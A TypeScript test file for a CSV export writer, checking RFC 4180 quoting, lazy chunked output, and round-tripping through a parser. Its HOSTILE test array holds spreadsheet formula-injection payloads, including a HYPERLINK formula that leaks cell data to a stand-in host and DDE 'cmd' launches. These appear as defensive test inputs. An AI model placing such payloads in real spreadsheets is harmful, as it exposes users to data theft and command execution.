import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { readCsvCell } from './csv-cell';
import { csvParts } from './csv-writer';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  'say "hi", then leave',
  'two\nlines',
  'crlf\r\ninside',
  "'=already marked",
  'Zoë Ångström, 東京 😀 🇩🇪 שלום',
  '',
];

/** Parses CSV text the way a spreadsheet import would (comma, CRLF; the empty line after the last CRLF left out), the export marks taken off. */
const read = (text: string) =>
  Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data.map((row) => row.map(readCsvCell));

describe('csvParts', () => {
  it('writes a header and rows as CRLF lines, neutralising formulas and quoting per RFC 4180', () => {
    const text = [...csvParts(['email', 'note'], [['ana@example.com', '=HYPERLINK("http://evil.example","x")'], ['+1@example.com', 'say "hi"\nbye']])].join('');
    expect(text).toBe(
      'email,note\r\n' +
        `ana@example.com,"'=HYPERLINK(""http://evil.example"",""x"")"\r\n` +
        `'+1@example.com,"say ""hi""\nbye"\r\n`,
    );
  });

  it('starts no parsed cell like a formula, and reads back exactly what was written, hostile cells included', () => {
    const rows = HOSTILE.map((cell, index) => [cell, `${index}`, HOSTILE[HOSTILE.length - 1 - index]!]);
    const parsed = read([...csvParts(['value', 'index', 'mirror'], rows)].join(''));
    expect(parsed).toEqual([['value', 'index', 'mirror'], ...rows]);
    const raw = Papa.parse<string[]>([...csvParts(['value'], rows)].join(''), { delimiter: ',', newline: '\r\n' }).data.flat();
    raw.forEach((cell) => expect(cell).not.toMatch(/^[=+\-@\t\r]/));
  });

  it('round-trips any cells through a CSV parser', () => {
    const cell = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...HOSTILE), fc.stringMatching(/^'{0,2}[=+\-@\t\r",\n a]{0,6}$/));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { maxLength: 8 }), (rows) => {
        expect(read([...csvParts(['a', 'b'], rows, 3)].join(''))).toEqual([['a', 'b'], ...rows]);
      }),
    );
  });

  it('hands out parts of at most rowsPerPart lines, taking rows lazily, so no part holds the whole file', () => {
    let taken = 0;
    function* rows() {
      for (let index = 0; index < 2500; index += 1) {
        taken += 1;
        yield [`reader${index}@example.com`];
      }
    }
    const parts = csvParts(['email'], rows(), 1000);
    const first = parts.next();
    expect(first.value?.split('\r\n').length).toBe(1001); // 1,000 lines and what follows the last CRLF
    expect(taken).toBe(999);
    const rest = [...parts];
    expect(rest.map((part) => part.split('\r\n').length - 1)).toEqual([1000, 501]);
  });

  it('writes only the header for no rows', () => {
    expect([...csvParts(['email'], [])]).toEqual(['email\r\n']);
  });
});
